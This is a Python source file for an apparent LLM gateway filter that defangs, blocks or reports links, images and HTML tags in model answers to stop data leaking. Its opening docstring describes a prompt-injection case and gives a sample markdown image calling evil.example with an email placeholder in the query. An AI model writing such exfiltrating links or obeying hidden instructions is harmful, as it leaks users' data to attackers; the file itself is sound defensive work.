"""Links and images by which an answer could carry data away, or fetch what nobody asked for.

What a page shows of an answer may load images by itself: an instruction hidden in a document can make the model write
`![](https://evil.example/?q=<EMAIL_ADDRESS_1>)`, and restoring would fill the value in. So such links become texts.

- Nothing is fetched by itself from a host that the policy does not name: images become links, tags become texts.
- Nothing that carries data of the prompt, or that runs, can be followed, whatever its host.
- With a list of hosts, no other host can be followed.

This filter comes last before placeholders are restored, so that no other filter's output can make a link.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from functools import partial
from typing import Literal

from gateway.guard.addresses import Addresses, Hosts, defanged, place
from gateway.guard.edits import Edit, filtered
from gateway.guard.fences import Fences
from gateway.guard.markup import LOOK_BACK_CHARS, PLACEHOLDER, attribute, is_link, may_go_on, opened_by, tag
from gateway.guard.prompt_texts import read, texts_of
from gateway.pipeline.channel import Channel, Field
from gateway.pipeline.exchange import Exchange
from gateway.pipeline.prompt import Prompt
from gateway.pipeline.stage import PassThrough, StreamFilter

Treatment = Literal["allow", "report", "neutralise", "block"]
RULE = "answers.links"

ADDRESS_CHARS = 940
"""The longest address that is read; a longer one is made a text."""
BOUND_CHARS = 1024
"""The same and a placeholder."""
_IMAGE_CHARS = 600
_GAP_CHARS = 64
_LETTERS = "A-Za-z\u017f\u212a\u0130\u0131"
"""Those of ASCII, and what is one without regard to case."""
_CANONICAL = r"[A-Z][A-Z0-9]{0,30}(?:_[A-Z0-9]{1,30}){0,4}_[1-9][0-9]{0,5}>"
"""A placeholder behind its bracket: it is no tag, wherever it stands."""
_TRIGGER = re.compile(
    # It begins with one set of characters, which the library skips to: most texts have few of them.
    rf"[!<\]=/hHfFwW](?:(?<==)|(?<=!)\[|(?<=<)(?!{_CANONICAL})[{_LETTERS}!?/]|(?<=\])(?=[(:])"
    rf"|(?<=/)(?<![{_LETTERS}0-9:/\\]/)(?:/|\Z)"
    # `\Z`: what may still become one of these.
    r"|(?<=[!<\]])\Z"
    rf"|(?<=[hHfFwW])(?<![{_LETTERS}0-9][hHfFwW])(?i:"
    r"(?<=h)(?:ttps?:[/\\]|(?:t|tt|ttps?:?)?\Z)"
    r"|(?<=f)(?:tp:[/\\]|(?:t|tp:?)?\Z)"
    r"|(?<=w)(?:ss?:[/\\]|ww\.|(?:w|ss?:?|ww)?\Z)))"
)
_IMAGE = re.compile(r"!\[[^\[\]\\`<>\n]{0,200}\]\([ ]?([^\s<>()\\\"]{1,300})(?:[ ]\"[^\"\n<>\\]{0,80}\")?\)")
_ADDRESS = re.compile(rf"(?:{PLACEHOLDER}|[^\s<>\"`|])+")
"""An address as most take it."""
_RUN = re.compile(rf"(?:{PLACEHOLDER}|[^\s<])+")
"""An address as far as it may be clicked somewhere (GitHub Flavored Markdown 0.29, 6.9)."""
_RUN_IN_CODE = re.compile(rf"(?:{PLACEHOLDER}|[^\s<\"])+")
_LINE = re.compile(r"[^\n]+")
_WORD = re.compile(rf"(?:{PLACEHOLDER}|\S)+")
_NETWORK = re.compile(rf"//(?:{PLACEHOLDER}|[^\s<>\"'`)])*")
# Possessive, so that the end of a placeholder is never taken for the end of the brackets.
_BRACKETED = re.compile(rf"<(?:{PLACEHOLDER}|[^<>\n])*+>")
_TARGET = re.compile(rf"(?:{PLACEHOLDER}|[^\s<>()]|\((?:{PLACEHOLDER}|[^\s<>()])*\))+")
_INNER = re.compile(r"!?\[|\]|<")
_GOES_ON = re.compile(r"[A-Za-z0-9/._%\-]*")
_WAITED_CHARS = 64
_PUNCTUATION = ".,;:!?'\")]}*_~"


@dataclass(frozen=True, slots=True)
class _Found:
    """The text up to `end` is decided on: it stays (None), or `text` stands in its place, because of `kind`.

    What stays is passed by one character only, so that markup within it is read, too: renderers do not agree on what
    is within what.
    """

    end: int
    text: str | None = None
    kind: str = ""
    tag: str = ""
    """What kind of tag stays: "inline" or "block"."""


class LinksStage:
    """Neutralises, blocks or reports links in every text of an answer but log probabilities, whose tokens are none.

    `hosts`: the hosts that may be followed, None for any that carries no data of the prompt. `restores`: whether
    restoring puts a value of the exchange into a text. Without it the prompt's placeholders are looked for, which
    is all where no value has a surrogate.
    """

    name = "links"

    def __init__(
        self,
        hosts: Sequence[str] | None = None,
        treatment: Treatment = "neutralise",
        restores: Callable[[Exchange, str], bool] = lambda _exchange, _text: False,
    ) -> None:
        self._hosts = None if hosts is None else Hosts(hosts)
        self._treatment = treatment
        self._restores = restores

    def on_request(self, prompt: Prompt, exchange: Exchange) -> Prompt:
        read(prompt, exchange)
        return prompt

    def open(self, exchange: Exchange, channel: Channel) -> StreamFilter:
        if self._treatment == "allow" or channel.field is Field.LOGPROBS:
            return PassThrough()

        def note(kind: str) -> None:
            exchange.found("links", kind, self._treatment)

        # Arguments of tools are no page: files that a tool writes keep their markup, but addresses are read.
        has_markup = channel.field is not Field.TOOL_ARGUMENTS
        said = texts_of(exchange)
        addresses = Addresses(self._hosts, said, partial(self._restores, exchange))
        stop = RULE if self._treatment == "block" else ""
        editor = LinksEditor(addresses, note, has_markup=has_markup, quoting=channel.is_json, stop=stop)
        if self._treatment == "report":
            return filtered(_Reporting(editor), channel)
        return filtered(editor, channel)


class LinksEditor:
    """Holds what may become a link, an image or a tag until it is known where it leads."""

    hold_chars = BOUND_CHARS + _GAP_CHARS + 2

    def __init__(
        self,
        addresses: Addresses,
        note: Callable[[str], None],
        *,
        has_markup: bool = True,
        quoting: bool = False,
        stop: str = "",
    ) -> None:
        """`quoting`: texts stand in quotes, where addresses end. `stop`: the rule that ends the answer at the first
        link."""
        self._addresses = addresses
        self._note = note
        self._has_markup = has_markup
        self._is_quoting = quoting
        self._stop = stop
        self._fences = Fences()
        self._text = ""
        self._is_waiting = False
        # Some characters before it are kept: words begin where none stands before them, and attributes have names.
        self._at = 0
        # How far the text has been read for what addresses carry.
        self._read_to = 0

    def push(self, text: str) -> list[Edit]:
        self._text += text
        # What has been waited for for so long is mostly the end of an address, which these characters are not.
        is_early = self._is_waiting and _WAITED_CHARS <= len(self._text) - self._at < ADDRESS_CHARS
        return [] if is_early and _GOES_ON.fullmatch(text) else self._edits(final=False)

    def flush(self) -> list[Edit]:
        return self._edits(final=True)

    def _edits(self, *, final: bool) -> list[Edit]:
        edits: list[Edit] = []
        self._is_waiting = False
        while self._at < len(self._text):
            match = _TRIGGER.search(self._text, self._at)
            start = match.start() if match else len(self._text)
            self._pass(edits, start)
            if match is None:
                break
            found = self._found(start, final=final)
            if found is None:
                self._is_waiting = True
                break
            if found.text is not None:
                self._note(found.kind)
                if self._stop:
                    return [*edits, Edit(0, stop=self._stop)]
                edits.append(Edit(found.end - start, found.text))
                self._fences.see(self._text[start : found.end])
                self._at = found.end
            else:
                if found.tag:
                    self._fences.see_tag(is_block=found.tag == "block")
                self._pass(edits, found.end)
        keep = max(0, self._at - LOOK_BACK_CHARS)
        self._text, self._at, self._read_to = self._text[keep:], self._at - keep, self._read_to - keep
        return edits

    def _pass(self, edits: list[Edit], end: int) -> None:
        if end > self._at:
            self._fences.see(self._text[self._at : end])
            edits.append(Edit(end - self._at))
            self._at = end

    def _found(self, at: int, *, final: bool) -> _Found | None:
        """What begins at a trigger; None: more text is needed."""
        sign = self._text[at]
        if sign not in "!<]=/":
            return self._address(at, final=final)
        if not self._has_markup:
            return _Found(at + 1)
        if at + 1 == len(self._text):
            return _Found(at + 1) if final else None
        if sign == "/":
            return self._network(at, final=final)
        if self._fences.is_inside:
            return self._in_code(at, final=final)
        if sign == "=":
            return _Found(at + 1)
        if sign == "!":
            return self._image(at, final=final)
        return self._angle(at, final=final) if sign == "<" else self._target(at, final=final)

    def _address(self, at: int, *, final: bool) -> _Found | None:
        """An address in running text."""
        text = self._text
        pattern = _RUN_IN_CODE if self._is_quoting or self._fences.is_inside else _RUN
        match, run = _ADDRESS.match(text, at, at + BOUND_CHARS), pattern.match(text, at, at + BOUND_CHARS)
        end, run_end = match.end() if match else at + 1, run.end() if run else at + 1
        # Behind the text of a link stands where it leads, which is judged by itself.
        if (target := text.find("](", at, end)) > at:
            end = target
        if run_end - at >= ADDRESS_CHARS:
            return self._dead(at, min(end, at + ADDRESS_CHARS), "long")
        if not final and may_go_on(text, at, run_end):
            return None
        bare, whole = text[at:end].rstrip(_PUNCTUATION), text[at:run_end].rstrip(_PUNCTUATION)
        is_read = run_end <= self._read_to
        fault = self._addresses.fault(bare, is_read=is_read) if len(bare) > 4 else None
        if fault is None and not is_read and len(whole) > len(bare) and self._addresses.carries(whole):
            fault = "value"
        if fault is not None:
            return self._dead(at, end, fault)
        self._read_to = max(self._read_to, run_end)
        return _Found(at + 1)

    def _network(self, at: int, *, final: bool) -> _Found | None:
        """An address without a scheme. No host has a space in its name."""
        match = _NETWORK.match(self._text, at, at + BOUND_CHARS)
        end = match.end() if match else at + 1
        if end - at < ADDRESS_CHARS:
            if not final and may_go_on(self._text, at, end):
                return None
            if end - at <= 2 or not self._addresses.carries(self._text[at:end]):
                return _Found(at + 1)
        return _Found(at + 2, "// ", "value" if end - at < ADDRESS_CHARS else "long")

    def _in_code(self, at: int, *, final: bool) -> _Found | None:
        """Within a fence markup stays, but carries nothing: somebody may see no fence there."""
        if self._text[at] == "]":
            return self._target_in_code(at, final=final)
        leads = attribute(self._text, at, final=final) if self._text[at] == "=" else ""
        if leads == "open":
            return None
        if not leads:
            return _Found(at + 1)
        value = self._text[leads.begin : leads.end]
        if not leads.is_whole:
            fault = "" if value[:5].lower() == "data:" else "long"
        else:
            is_meant = leads.is_surely or place(value).host
            fault = "value" if is_meant and self._addresses.carries_in_code(value) else ""
        if not fault:
            return _Found(at + 1)
        lead = self._text[at : leads.begin]
        return _Found(leads.begin, ":" + lead[1:] if leads.is_list else lead + "#", fault)

    def _target_in_code(self, at: int, *, final: bool) -> _Found | None:
        """The same for what stands behind `](` or `]:`, to the end of its line."""
        text, limit = self._text, at + BOUND_CHARS
        if text[at + 1] not in "(:":
            return _Found(at + 1)
        begin = self._behind_gap(at + 2)
        match = (_LINE if text[begin : begin + 1] == "<" else _WORD).match(text, begin, limit)
        end = match.end() if match else begin
        if not final and end < limit and may_go_on(text, begin, end):
            return None
        is_long = end >= limit or (begin < len(text) and text[begin].isspace() and begin - at >= _GAP_CHARS)
        if is_long or self._addresses.carries_in_code(text[begin:end]):
            return _Found(at + 1, "] ", "long" if is_long else "value")
        return _Found(at + 1)

    def _behind_gap(self, at: int) -> int:
        begin = at
        while begin < len(self._text) and self._text[begin].isspace() and begin - at < _GAP_CHARS - 2:
            begin += 1
        return begin

    def _dead(self, at: int, end: int, fault: str, begin: int | None = None, before: str = "") -> _Found:
        """What stands from `begin` (`at` if not given) to `end` made an address for reading only, `before` standing in
        place of what comes before it. It ends where other markup begins, which is read by itself."""
        begin = at if begin is None else begin
        inner = _INNER.search(self._text, begin, end)
        end = inner.start() if inner else end
        while end > begin and self._text[end - 1] == "!":
            end -= 1
        return _Found(end, before + defanged(self._text[begin:end]), fault)

    def _image(self, at: int, *, final: bool) -> _Found | None:
        """An image stays only if it is written plainly and its host is on the list; others become links."""
        if self._text[at + 1] != "[":
            return _Found(at + 1)
        if self._addresses.has_list:
            match = _IMAGE.match(self._text, at)
            if match and self._addresses.fault(match[1]) is None:
                return _Found(at + 1)
            line_end = self._text.find("\n", at, at + _IMAGE_CHARS)
            if match is None and line_end < 0 and len(self._text) - at < _IMAGE_CHARS and not final:
                return None
        # Of several exclamation marks one would be left, and with it the image.
        return _Found(at + 1, "! " if self._text[:at].endswith("!") else "", "image")

    def _angle(self, at: int, *, final: bool) -> _Found | None:
        linked = is_link(self._text, at)
        if linked is None and not final:
            return None
        if linked:
            return self._bracketed(at, final=final)
        decided = tag(self._text, at, self._addresses.fault, images=self._addresses.has_list, final=final)
        if decided is None:
            return None
        # Only the bracket is passed: what some take for attributes others read as text with markup in it.
        return _Found(at + 1, tag=opened_by(self._text, at)) if decided else _Found(at + 1, "< ", "tag")

    def _bracketed(self, at: int, *, final: bool) -> _Found | None:
        """`<https://…>`: an address that is a link wherever Markdown is shown."""
        match = _BRACKETED.match(self._text, at, at + BOUND_CHARS)
        if match is None:
            is_open = len(self._text) - at < BOUND_CHARS and "\n" not in self._text[at:]
            return None if is_open and not final else _Found(at + 1, "< ", "link")
        fault = self._addresses.fault(match[0][1:-1])
        if fault is None:
            return _Found(at + 1)
        if _INNER.search(match[0], 1):
            return _Found(at + 1, "< ", fault)
        return _Found(match.end(), defanged(match[0][1:-1]), fault)

    def _target(self, at: int, *, final: bool) -> _Found | None:
        """What stands behind `](`, or behind `]:` of a definition."""
        text, opening = self._text, self._text[at + 1]
        if opening not in "(:":
            return _Found(at + 1)
        begin = self._behind_gap(at + 2)
        if begin == len(text) and not final:
            return None
        end = self._target_end(begin, final=final)
        if end is None:
            return None
        address = text[begin:end]
        fault = "long" if end - begin >= ADDRESS_CHARS else self._addresses.fault(address) if address else None
        after = text[end : end + 1]
        if fault is None and ((opening == "(" and after in ("<", "(")) or (not address and after.isspace())):
            # Renderers do not agree on where such a target ends.
            fault = "disguise"
        if fault is None:
            return _Found(at + 1)
        before = f"] {opening}{text[at + 2 : begin]}"
        return self._dead(at, end, fault, begin, before)

    def _target_end(self, begin: int, *, final: bool) -> int | None:
        """Where a target ends; None: more text is needed."""
        text = self._text
        is_bracketed = text[begin : begin + 1] == "<"
        match = (_BRACKETED if is_bracketed else _TARGET).match(text, begin, begin + BOUND_CHARS)
        end = match.end() if match else begin
        if end - begin >= ADDRESS_CHARS:
            return begin + ADDRESS_CHARS
        if final or (is_bracketed and match is not None and end < len(text)):
            return end
        return None if may_go_on(text, begin, end) or (text[end] in "<(" and self._is_open(begin)) else end

    def _is_open(self, at: int) -> bool:
        return len(self._text) - at < BOUND_CHARS and "\n" not in self._text[at:]


class _Reporting:
    """Finds the same and changes nothing."""

    def __init__(self, editor: LinksEditor) -> None:
        self._editor = editor
        self.hold_chars = editor.hold_chars

    def push(self, text: str) -> list[Edit]:
        return [Edit(edit.count) for edit in self._editor.push(text)]

    def flush(self) -> list[Edit]:
        return [Edit(edit.count) for edit in self._editor.flush()]
